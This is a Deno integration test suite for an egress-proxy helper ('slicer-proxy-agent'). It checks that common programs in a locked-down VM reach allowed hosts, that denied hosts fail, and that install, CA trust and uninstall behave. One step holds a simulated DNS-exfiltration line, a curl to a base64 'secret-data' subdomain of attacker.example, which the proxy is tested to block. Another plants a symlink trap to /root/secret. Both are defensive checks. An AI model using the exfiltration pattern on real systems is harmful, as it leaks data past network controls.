// deno-lint-ignore-file no-console
/**
 * The helper in a VM whose only route is the proxy: the documented example and the programs that people run, with no proxy
 * variable set. One lab for all steps, for building it takes longer than any of them.
 */
import { assert, assertEquals, assertMatch, assertStringIncludes } from "@std/assert";
import { AgentVm, hasProgram, OUTSIDE_IP, PROXY_IP, sh, VM_CLIENT, whyNoVm } from "../support/agent_vm.ts";
import { BINARY } from "../support/program.ts";

const NO_PROXY_VARIABLES =
  "unset HTTP_PROXY HTTPS_PROXY http_proxy https_proxy NO_PROXY no_proxy ALL_PROXY; ";

/** A Debian archive with one package, a git repository, a Python package index and plain files. */
async function outsideFiles(www: string): Promise<void> {
  const ran = await sh(`set -e
    mkdir -p ${www}/archive.ubuntu.com/ubuntu ${www}/api.example.com/v1 ${www}/git.example.com ${www}/pypi.example.com/simple/hello-slicer
    echo 'hello from outside' > ${www}/api.example.com/index.html
    echo models > ${www}/api.example.com/v1/models
    cd ${www}/..
    mkdir -p deb/DEBIAN deb/usr/share/hello && echo hi > deb/usr/share/hello/file
    printf 'Package: nginx\\nVersion: 99:1.0\\nArchitecture: all\\nMaintainer: t <t@example.com>\\nDescription: not really\\n' > deb/DEBIAN/control
    dpkg-deb --root-owner-group --build deb ${www}/archive.ubuntu.com/ubuntu/nginx.deb >/dev/null
    cd ${www}/archive.ubuntu.com/ubuntu && dpkg-scanpackages . > Packages 2>/dev/null
    cd ${www}/.. && git init -q -b main work && cd work
    git -c user.name=t -c user.email=t@example.com commit -q --allow-empty -m first
    git clone -q --bare . ${www}/git.example.com/repo.git && git -C ${www}/git.example.com/repo.git update-server-info
    cd ${www}/pypi.example.com/simple/hello-slicer
    python3 - <<'EOF'
import zipfile
name = "hello_slicer-1.0-py3-none-any.whl"
with zipfile.ZipFile(name, "w") as z:
    z.writestr("hello_slicer.py", "word = 'installed'\\n")
    d = "hello_slicer-1.0.dist-info/"
    z.writestr(d + "METADATA", "Metadata-Version: 2.1\\nName: hello-slicer\\nVersion: 1.0\\n")
    z.writestr(d + "WHEEL", "Wheel-Version: 1.0\\nGenerator: t\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n")
    z.writestr(d + "RECORD", "")
open("index.html", "w").write('<a href="' + name + '">' + name + '</a>')
EOF`);
  if (ran.code !== 0) throw new Error(`the outside files cannot be made: ${ran.all}`);
}

Deno.test("the helper in a VM makes programs that know of no proxy just work", async (t) => {
  const why = await whyNoVm();
  if (why !== undefined) return console.log(`skipped: ${why}`);
  await using vm = await AgentVm.start(outsideFiles);
  for (
    const rule of [
      "--host archive.ubuntu.com --method GET --path '/ubuntu/*'",
      "--host security.ubuntu.com --method GET --path '/ubuntu/*'",
      "--host api.example.com --method GET",
      "--host git.example.com",
      "--host pypi.example.com --method GET,HEAD",
      "--host ssh-host.example.com --port 22 --passthrough",
      "--host db.internal.example --port 5432 --passthrough",
    ]
  ) await vm.host(`allow ${VM_CLIENT} ${rule}`);
  const before = await vm.fingerprint();

  /** One program, skipped with a word where it is not installed. */
  const step = async (program: string, name: string, body: () => Promise<void>) => {
    await t.step({
      name,
      ignore: !await hasProgram(program),
      fn: body,
    });
  };
  const login = (command: string, options: { user?: string } = {}) =>
    vm.run(NO_PROXY_VARIABLES + command, { login: true, ...options });

  await t.step("a bad token, a wrong CA and a silent address change nothing", async () => {
    const refused = [
      { args: `${PROXY_IP} --token spi_wrong_token_of_nobody`, says: "does not know this token" },
      { args: `192.168.222.9 --token ${vm.token}`, says: "cannot reach the proxy at 192.168.222.9:3129" },
      { args: `${PROXY_IP} --token ${vm.token} --ca /etc/hostname`, says: "no certificate" },
      { args: `${PROXY_IP} --token ${vm.token} --ca-sha256 ${"ab".repeat(32)}`, says: "not the one given" },
      { args: `proxy.example.com --token ${vm.token}`, says: "it is no IP address" },
    ];
    for (const { args, says } of refused) {
      const ran = await vm.run(`slicer-proxy-agent proxy install ${args}`);
      assert(ran.code !== 0, args);
      assertStringIncludes(ran.stderr, says);
      assert(!ran.all.replace(args, "").includes(vm.token), "the token is shown");
    }
    assertEquals(await vm.fingerprint(), before);
  });

  await t.step("slicer-proxy-agent proxy install, as documented", async () => {
    await vm.ok(`slicer-proxy-agent proxy install ${PROXY_IP} --token ${vm.token}`);
    const status = await vm.run("slicer-proxy-agent agent status");
    assertEquals(status.code, 0, status.all);
    assertEquals(await vm.ok("cat /etc/resolv.conf | grep nameserver"), "nameserver 127.0.0.1\n");
    assertEquals(await vm.ok("stat -c %a /etc/slicer-proxy-agent/token"), "600\n");
    const readable = await vm.ok(
      'grep -rl -- "$(cat /etc/slicer-proxy-agent/token)" /etc /run /var/log || true',
    );
    assertEquals(readable, "/etc/slicer-proxy-agent/token\n");
    const processes = await vm.ok("ps axww -o args");
    assert(!processes.includes(vm.token), processes);
  });

  await t.step("slicer-proxy-agent proxy status and ca, as documented", async () => {
    // There is no API in the VM: what is asked is the helper's state.
    const status = await vm.run("cd / && slicer-proxy-agent proxy status");
    assertEquals(status.code, 0, status.all);
    assertMatch(status.stdout, /^service +yes +running/m);
    assertEquals((await vm.run("slicer-proxy-agent proxy status --url ./none.sock")).code, 1);
    const [ca, ...more] = JSON.parse(await vm.ok("slicer-proxy-agent proxy ca list --json"));
    assertEquals(more, []);
    const { fingerprint } = JSON.parse(await vm.host("ca show --json --ca-dir ./ca"));
    assertEquals(ca.fingerprint, fingerprint);
    assert(ca.stores.includes("/usr/local/share/ca-certificates/slicer-proxy-agent.crt"), String(ca.stores));
    assertStringIncludes(await vm.ok("slicer-proxy-agent proxy ca show"), fingerprint);
    assertStringIncludes(
      await vm.ok(`slicer-proxy-agent proxy ca show ${fingerprint.slice(0, 11)}`),
      fingerprint,
    );
    assertEquals((await vm.run("slicer-proxy-agent proxy ca remove 00000000")).code, 1);
    for (const command of [`remove ${fingerprint}`, "wipe"]) {
      await vm.ok(`slicer-proxy-agent proxy ca ${command}`);
      assertEquals(await vm.ok("slicer-proxy-agent proxy ca list --json"), "[]\n");
      const without = await vm.run("slicer-proxy-agent proxy status");
      assertEquals(without.code, 1, without.all);
      assertMatch(without.stdout, /^trust store +NO/m);
      await vm.ok(`slicer-proxy-agent proxy install ${PROXY_IP} --token ${vm.token}`);
      assertEquals((await vm.run("slicer-proxy-agent proxy status")).code, 0);
    }
  });

  await step("chromium", "Chromium trusts the proxy by its own store", async () => {
    if (!await hasProgram("certutil")) {
      return console.log("skipped: certutil (libnss3-tools) is not installed");
    }
    const page =
      "chromium --headless --no-sandbox --disable-gpu --disable-dev-shm-usage --virtual-time-budget=5000 " +
      "--dump-dom https://api.example.com/ 2>/dev/null";
    assertStringIncludes(await vm.ok(page), "hello from outside");
    await vm.ok("slicer-proxy-agent proxy ca wipe && rm -rf /root/.pki");
    const ill = await vm.run("slicer-proxy-agent agent doctor", { login: true });
    assertMatch(ill.stdout, /^browsers +NO +\/root\/\.pki\/nssdb/m, ill.all);
    assert(!(await vm.run(page)).stdout.includes("hello from outside"));
    await vm.run("slicer-proxy-agent agent doctor --fix", { login: true });
    const well = await vm.run("slicer-proxy-agent agent doctor", { login: true });
    assertMatch(well.stdout, /^browsers +yes/m, well.all);
    assertStringIncludes(await vm.ok(page), "hello from outside");
    await vm.ok(`slicer-proxy-agent proxy install ${PROXY_IP} --token ${vm.token}`);
  });

  await step(
    "certutil",
    "a store in a user's home is changed as that user, whose links lead root nowhere",
    async () => {
      await vm.ok(
        "useradd -m -u 4321 eve && mkdir -p /root/secret /home/eve/.mozilla/firefox/p && " +
          "setpriv --reuid=4321 --regid=4321 --clear-groups certutil -N --empty-password -d sql:/home/eve/.mozilla 2>/dev/null; " +
          "chown -R 4321:4321 /home/eve && cd /home/eve/.mozilla/firefox/p && " +
          "setpriv --reuid=4321 --regid=4321 --clear-groups certutil -N --empty-password -d sql:/home/eve/.mozilla/firefox/p && " +
          "ln -s /root/secret /home/eve/.pki && chown -h 4321:4321 /home/eve/.pki",
      );
      const ran = await vm.run(`slicer-proxy-agent proxy install ${PROXY_IP} --token ${vm.token}`);
      assertEquals(ran.code, 0, ran.all);
      assertStringIncludes(ran.stderr, "the CA is in the browsers' store /home/eve/.mozilla/firefox/p");
      assertEquals(await vm.ok("ls /root/secret"), "");
      assertEquals(await vm.ok("stat -c %u /home/eve/.mozilla/firefox/p/cert9.db"), "4321\n");
      const held =
        "setpriv --reuid=4321 --regid=4321 --clear-groups certutil -L -d sql:/home/eve/.mozilla/firefox/p";
      assertStringIncludes(await vm.ok(held), "slicer-proxy-agent");
      await vm.ok("slicer-proxy-agent proxy ca wipe");
      assert(!(await vm.ok(held)).includes("slicer-proxy-agent"));
      await vm.ok(`slicer-proxy-agent proxy install ${PROXY_IP} --token ${vm.token}`);
    },
  );

  await step("dpkg-scanpackages", "apt-get install, the documented example", async () => {
    await vm.ok(
      "rm -rf /etc/apt/sources.list.d/* /etc/apt/apt.conf.d/*proxy*; " +
        "echo 'deb [trusted=yes] http://archive.ubuntu.com/ubuntu ./' > /etc/apt/sources.list",
    );
    const ran = await vm.run(
      "env -u http_proxy apt-get -o Acquire::Languages=none update && apt-get install -y --allow-downgrades nginx",
    );
    assertEquals(ran.code, 0, ran.all);
    assertEquals(await vm.ok("cat /usr/share/hello/file"), "hi\n");
    assertStringIncludes(
      await Deno.readTextFile(`${vm.dir}/www/seen.log`),
      "GET http://archive.ubuntu.com/ubuntu/nginx.deb",
    );
  });

  const fetches = [
    { program: "curl", name: "curl https://", command: "curl -sS https://api.example.com/" },
    { program: "curl", name: "curl http://", command: "curl -sS http://api.example.com/" },
    { program: "wget", name: "wget https://", command: "wget -qO- https://api.example.com/" },
    { program: "wget", name: "wget http://", command: "wget -qO- http://api.example.com/" },
    {
      program: "python3",
      name: "Python urllib",
      command:
        "/usr/bin/python3 -c \"import urllib.request as u; print(u.urlopen('https://api.example.com/').read().decode(), end='')\"",
    },
    {
      program: "node",
      name: "Node fetch",
      command:
        "node -e \"fetch('https://api.example.com/').then(r => r.text()).then(t => process.stdout.write(t))\"",
    },
    {
      program: "deno",
      name: "Deno fetch",
      command:
        "deno eval \"Deno.stdout.write(new Uint8Array(await (await fetch('https://api.example.com/')).arrayBuffer()))\"",
    },
  ];
  for (const { program, name, command } of fetches) {
    await step(program, name, async () => {
      const ran = await login(command);
      assertEquals([ran.stdout, ran.code], ["hello from outside\n", 0], ran.all);
    });
  }

  await step("curl", "curl without any variable at all, and as another user", async () => {
    assertEquals(await vm.ok("curl -sS https://api.example.com/"), "hello from outside\n");
    assertEquals(await vm.ok("curl -sS https://api.example.com/", { user: "65534" }), "hello from outside\n");
  });

  await step(
    "curl",
    "curl --http2, redirected and by the local proxy, each stream with its own line",
    async () => {
      const format = "-sS -o /dev/null -w '%{http_version} %{http_code}\\n' --http2";
      const urls = "https://api.example.com/v1/models https://api.example.com/none";
      const args = `${format} ${urls.split(" ")[0]} ${format.replace("-sS", "--next -sS")} -X POST ${
        urls.split(" ")[1]
      }`;
      assertEquals(await vm.ok(`curl ${args}`), "2 200\n2 403\n");
      const ran = await vm.run(`curl ${args}`, { login: true });
      assertEquals(ran.stdout, "2 200\n2 403\n", ran.all);
      await vm.waitLine(/^allow client=vm-1 method=GET .*path=\/v1\/models status=200 .*proto=h2/m);
      await vm.waitLine(/^deny client=vm-1 method=POST .*path=\/none .*reason=no-rule .*proto=h2/m);
    },
  );

  await step("curl", "curl with the variables of the profile", async () => {
    for (const scheme of ["http", "https"]) {
      const ran = await vm.run(`curl -sSv ${scheme}://api.example.com/v1/models`, { login: true });
      assertEquals(ran.stdout, "models\n", ran.all);
      assertStringIncludes(ran.stderr, "127.0.0.1:18128", "it goes through the local proxy");
      assert(!ran.all.includes(vm.token));
    }
  });

  await step("git", "git clone https://", async () => {
    const ran = await login(
      "git clone -q https://git.example.com/repo.git /tmp/clone && git -C /tmp/clone log --oneline",
    );
    assertMatch(ran.stdout, / first\n$/, ran.all);
  });

  await step("pip3", "pip install, from a local index", async () => {
    const ran = await login(
      "/usr/bin/python3 -m pip install --quiet --disable-pip-version-check --target /tmp/pip " +
        "--index-url https://pypi.example.com/simple hello-slicer && " +
        "PYTHONPATH=/tmp/pip /usr/bin/python3 -c 'import hello_slicer; print(hello_slicer.word)'",
    );
    assertEquals(ran.stdout, "installed\n", ran.all);
  });

  await step("curl", "a denied host fails at once and says why", async () => {
    const byName = await login("curl -sS https://denied.example.com/");
    assertEquals(byName.code, 6, byName.all);
    assertStringIncludes(byName.stderr, "Could not resolve host");
    const pinned =
      "--resolve denied.example.com:443:93.184.216.34 --resolve denied.example.com:80:93.184.216.34";
    const http = await login(`curl -sS ${pinned} http://denied.example.com/`);
    assertStringIncludes(http.stdout, "no allow rule of this client matches");
    assertStringIncludes(http.stdout, `slicer-proxy allow ${VM_CLIENT} --host denied.example.com`);
    const https = await login(`curl -sS ${pinned} https://denied.example.com/`);
    assertEquals(https.code, 35, https.all);
    assertStringIncludes(https.stderr, "access denied");
    for (const { ms } of [byName, http, https]) assert(ms < 3_000, `${ms} ms`);
  });

  await step("curl", "an address without a name, a wrong name and another port lead nowhere", async () => {
    const byAddress = await login("curl -sSk https://93.184.216.34/");
    assert(byAddress.code !== 0 && byAddress.ms < 3_000, byAddress.all);
    // The name decides, not the address: the server of the name answers, wherever the program dialled.
    const elsewhere = await login(
      "curl -sS --resolve api.example.com:443:93.184.216.34 https://api.example.com/",
    );
    assertEquals(elsewhere.stdout, "hello from outside\n", elsewhere.all);
    const port = await login(`curl -sS --connect-timeout 5 http://${OUTSIDE_IP}:8080/`);
    assert(port.code !== 0 && port.ms < 3_000, port.all);
    assertStringIncludes(await vm.ok("cat /var/log/slicer-proxy-agent.log"), "names no host");
  });

  await step("curl", "a name that no rule allows is asked of nobody outside", async () => {
    await login("curl -sS https://c2VjcmV0LWRhdGE.attacker.example/");
    await vm.waitLine(
      /^deny client=vm-1 method=DNS host=c2vjcmv0lwrhdge\.attacker\.example .*reason=no-rule/m,
    );
    const asked = await vm.namesAsked();
    assert(!/attacker|denied/.test(asked), asked);
  });

  await t.step("DNS over TCP, other record types, and a query that is none", async () => {
    const script = `
import socket, struct
def q(name, kind): return struct.pack('>HHHHHH', 7, 256, 1, 0, 0, 0) + b''.join(bytes([len(l)]) + l.encode() for l in name.split('.')) + b'\\0' + struct.pack('>HH', kind, 1)
def udp(m):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5); s.sendto(m, ('127.0.0.1', 53)); return s.recv(512)
def tcp(m):
    s = socket.create_connection(('127.0.0.1', 53), 5); s.sendall(struct.pack('>H', len(m)) + m); n = struct.unpack('>H', s.recv(2))[0]; return s.recv(n)
for ask in (udp, tcp):
    a = ask(q('API.example.com', 1)); print(a[3] & 15, struct.unpack('>H', a[6:8])[0], a[-4:].hex(), b'API' in a)
    a = ask(q('api.example.com', 65)); print(a[3] & 15, struct.unpack('>H', a[6:8])[0])
    a = ask(q('nope.example.com', 1)); print(a[3] & 15)
print(udp(b'\\0\\7\\0\\0zz')[3] & 15)
`;
    await vm.ok(`cat > /tmp/dns.py <<'EOF'\n${script}\nEOF`);
    const said = await vm.ok("/usr/bin/python3 /tmp/dns.py");
    const each = "0 1 0a4d0001 True\n0 0\n3\n";
    assertEquals(said, each + each + "1\n");
  });

  await step("sshd", "ssh through connect, and through nc -x", async () => {
    await vm.ok("ssh-keygen -q -t ed25519 -N '' -f /root/lab_key");
    const key = await vm.ok("cat /root/lab_key.pub");
    await Deno.mkdir(`${vm.dir}/sshd`);
    await Deno.writeTextFile(`${vm.dir}/sshd/authorized_keys`, key);
    await sh(
      `ssh-keygen -q -t ed25519 -N '' -f ${vm.dir}/sshd/host_key; chmod -R go-rwx ${vm.dir}/sshd; mkdir -p /run/sshd`,
    );
    vm.hostProcess(
      `/usr/sbin/sshd -D -e -f /dev/null -o ListenAddress=${OUTSIDE_IP} -o HostKey=${vm.dir}/sshd/host_key ` +
        `-o AuthorizedKeysFile=${vm.dir}/sshd/authorized_keys -o StrictModes=no -o UsePAM=no -o PidFile=none -o PermitRootLogin=yes`,
    );
    const ssh = (way: string, user = "") =>
      vm.run(
        `${user}ssh -i /root/lab_key -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null ` +
          `-o LogLevel=ERROR -o ConnectTimeout=10 -o 'ProxyCommand=${way}' root@ssh-host.example.com echo connected`,
      );
    for (
      const way of [
        "slicer-proxy-agent connect %h:%p",
        "slicer-proxy agent connect %h:%p",
        `nc -x ${PROXY_IP}:3129 %h %p`,
      ]
    ) {
      let ran = await ssh(way);
      for (let i = 0; i < 20 && ran.code !== 0; i++) ran = await ssh(way); // until sshd is up
      assertEquals([ran.stdout, ran.code], ["connected\n", 0], `${way}: ${ran.all}`);
    }
    await vm.waitLine(/^passthrough client=vm-1 host=ssh-host\.example\.com port=22 /m);
    const denied = await vm.run("slicer-proxy-agent connect denied.example.com:22 < /dev/null");
    assertEquals(denied.code, 1);
    assertStringIncludes(denied.stderr, "no-rule");
    assertStringIncludes(denied.stderr, `slicer-proxy allow ${VM_CLIENT}`);
    // From HTTPS_PROXY alone, and as a user who may not read the token.
    const banner = (prefix: string, user?: string) =>
      vm.run(
        `${prefix} slicer-proxy-agent connect ssh-host.example.com:22 < <(sleep 0.5) | head -c 7`,
        user ? { user } : {},
      );
    assertEquals((await banner(`HTTPS_PROXY=https://proxy:${vm.token}@${PROXY_IP}:3129`)).stdout, "SSH-2.0");
    if (BINARY === undefined) return; // from source, another user has no module cache
    const nobody = await banner("HOME=/tmp", "65534");
    assertEquals(nobody.stdout, "SSH-2.0", nobody.all);
  });

  await step("psql", "psql through a tunnel that survives the helper", async () => {
    const data = `${vm.dir}/pg`;
    const bin = (await sh("ls -d /usr/lib/postgresql/*/bin | tail -1")).stdout.trim();
    await sh(`mkdir ${data} && chown postgres ${vm.dir}/pg && chmod 755 ${vm.dir}`);
    const made = await sh(
      `setpriv --reuid=postgres --regid=postgres --clear-groups ${bin}/initdb -A trust -U app ${data}`,
    );
    assertEquals(made.code, 0, made.all);
    await sh(`echo 'host all all 10.77.0.0/16 trust' >> ${data}/pg_hba.conf`);
    vm.hostProcess(
      `setpriv --reuid=postgres --regid=postgres --clear-groups ${bin}/postgres -D ${data} -h ${OUTSIDE_IP} -k ''`,
    );
    await vm.ok("slicer-proxy-agent tunnel add db --listen 127.0.0.1:5432 db.internal.example:5432");
    assertStringIncludes(await vm.ok("slicer-proxy-agent tunnel list"), "db.internal.example:5432");
    const select = "psql -h 127.0.0.1 -U app -d postgres -Atc 'select 40 + 2'";
    let ran = await vm.run(select);
    for (let i = 0; i < 50 && ran.code !== 0; i++) {
      await new Promise((resolve) => setTimeout(resolve, 100));
      ran = await vm.run(select);
    }
    assertEquals(ran.stdout, "42\n", ran.all);
    await vm.ok("pkill -9 -f '[a]gent run --supervised'");
    await waitAnswer(vm);
    assertEquals(await vm.ok(select), "42\n");
    await vm.ok("slicer-proxy-agent tunnel remove db");
    assert((await vm.run(select)).code !== 0);
    const again = await vm.run("slicer-proxy-agent tunnel remove db");
    assertEquals(again.code, 1);
  });

  await step(
    "curl",
    "killing the helper leaves no half state: it is back, or everything is refused",
    async () => {
      await vm.ok("pkill -9 -f '[a]gent run --supervised'");
      await waitAnswer(vm);
      assertEquals(await vm.ok("curl -sS https://api.example.com/"), "hello from outside\n");
      // The supervisor too: nothing answers, nothing hangs, nothing goes around the proxy; and it can be repaired.
      await vm.ok("pkill -9 -f '[a]gent supervise'; sleep 0.5");
      assertEquals(
        (await vm.run("pgrep -f '[a]gent run --supervised'")).code,
        1,
        "the helper outlives its supervisor",
      );
      const dead = await vm.run("curl -sS --connect-timeout 5 https://api.example.com/");
      assert(dead.code !== 0 && dead.ms < 6_000, dead.all);
      const status = await vm.run("slicer-proxy-agent agent status");
      assertEquals(status.code, 1);
      assertMatch(status.stdout, /service +NO +not running/);
      await vm.ok(`slicer-proxy-agent install ${PROXY_IP} --token ${vm.token}`);
      assertEquals(await vm.ok("curl -sS https://api.example.com/"), "hello from outside\n");
    },
  );

  await step(
    "curl",
    "a second install changes the token in place, and a bad one changes nothing",
    async () => {
      const bad = await vm.run(`slicer-proxy-agent install ${PROXY_IP} --token spi_wrong_token_of_nobody`);
      assert(bad.code !== 0);
      assertEquals(await vm.ok("curl -sS https://api.example.com/"), "hello from outside\n");
      const token = (await vm.host(`client rotate ${VM_CLIENT} 2>/dev/null`)).trim();
      const revoked = await login("curl -sS http://api.example.com/ --resolve api.example.com:80:192.0.2.1");
      assertStringIncludes(revoked.stdout, "does not know this VM's token");
      const changed = await vm.run(
        `printf %s ${token} | slicer-proxy-agent install ${PROXY_IP} --token-file -`,
      );
      assertEquals(changed.code, 0, changed.all);
      assertStringIncludes(changed.stderr, "changed:");
      await new Promise((resolve) => setTimeout(resolve, 1_500));
      assertEquals(await vm.ok("curl -sS https://api.example.com/"), "hello from outside\n");
    },
  );

  await t.step("doctor finds what is wrong, and what to do", async () => {
    const well = await vm.run("slicer-proxy-agent agent doctor", { login: true });
    assertMatch(well.stdout, /^clock +yes/m, well.all);
    assertMatch(well.stdout, /^trust store +yes/m, well.all);
    await vm.ok(
      "rm /usr/local/share/ca-certificates/slicer-proxy-agent.crt && update-ca-certificates --fresh >/dev/null 2>&1",
    );
    await vm.ok("cp /etc/slicer-proxy-agent/ca.crt /usr/local/share/ca-certificates/slicer-proxy-agent.crt");
    const ill = await vm.run("slicer-proxy-agent agent doctor", { login: true });
    assertEquals(ill.code, 1);
    assertMatch(ill.stdout, /^trust store +NO/m, ill.all);
    assertStringIncludes(ill.stderr, "trust store: update-ca-certificates");
    const fixed = await vm.run("slicer-proxy-agent agent doctor --fix", { login: true });
    assertMatch(fixed.stdout, /^trust store +yes/m, fixed.all);
  });

  await t.step("uninstall puts everything back exactly", async () => {
    await vm.ok("slicer-proxy-agent proxy uninstall");
    assertEquals(await vm.fingerprint(), before);
    assertEquals((await vm.run("pgrep -f '[a]gent (run|supervise)'")).code, 1);
    assertStringIncludes((await vm.run("slicer-proxy-agent uninstall")).stderr, "nothing to undo");
  });
});

async function waitAnswer(vm: AgentVm): Promise<void> {
  for (let i = 0; i < 100; i++) {
    const ran = await vm.run("getent hosts api.example.com");
    if (ran.code === 0) return;
    await new Promise((resolve) => setTimeout(resolve, 100));
  }
  throw new Error(`the helper is not back: ${(await vm.run("cat /var/log/slicer-proxy-agent.log")).all}`);
}
